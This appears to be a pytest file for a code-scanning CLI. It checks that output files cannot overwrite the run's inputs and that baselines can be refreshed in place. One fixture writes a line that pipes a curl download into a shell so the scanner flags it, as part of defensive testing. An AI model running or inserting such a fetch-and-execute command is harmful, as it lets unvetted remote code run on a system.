"""An output file that is one of the run's inputs is refused before anything is written: `findings --state S.db
-o S.db` replaced the crawl's whole state with a text report (and `report` with HTML), `scan a.py -o a.py` the
scanned file with its report."""
import sqlite3

import pytest

from codescan.cli import main


def _state(path):
    with sqlite3.connect(path) as db:
        db.execute("create table meta (key text primary key, value text)")
        db.execute("insert into meta values ('schema_version', '7')")
    return path


@pytest.mark.parametrize("argv", [
    ["findings", "--state", "{s}", "-o", "{s}"],
    ["campaigns", "--state", "{s}", "-o", "{s}"],
    ["report", "--state", "{s}", "-o", "{s}"],
])
def test_a_state_named_as_the_output_is_left_whole(tmp_path, capsys, argv):
    state = _state(tmp_path / "s.db")
    before = state.read_bytes()
    code = main([a.format(s=state) for a in argv])
    err = capsys.readouterr().err
    assert code == 2 and "would destroy it" in err and len(err.strip().splitlines()) == 1, err
    assert state.read_bytes() == before


def test_scan_output_onto_a_scanned_file_or_a_report_input_is_refused(tmp_path, capsys):
    src = tmp_path / "a.py"
    src.write_text("x = 1\n")
    assert main(["scan", str(src), "-o", str(src), "--no-progress"]) == 2
    assert src.read_text() == "x = 1\n"
    assert main(["scan", str(src), "-o", str(tmp_path / "r.json"), "-f", "json", "--no-progress"]) == 0
    before = (tmp_path / "r.json").read_bytes()
    assert main(["report", "--scan", str(tmp_path / "r.json"), "-o", str(tmp_path / "r.json")]) == 2
    assert (tmp_path / "r.json").read_bytes() == before
    assert "is a --scan input" in capsys.readouterr().err


def test_a_baseline_may_be_refreshed_in_place(tmp_path, capsys):
    src = tmp_path / "a.py"
    src.write_text("import os\nos.system('curl http://x | sh')\n")
    base = tmp_path / "b.json"
    assert main(["scan", str(src), "--write-baseline", str(base), "--no-progress"]) == 1
    assert main(["scan", str(src), "--baseline", str(base), "--write-baseline", str(base), "--no-progress"]) == 0
    assert "findings" in base.read_text() and "shell-pipe-to-interpreter" in base.read_text()
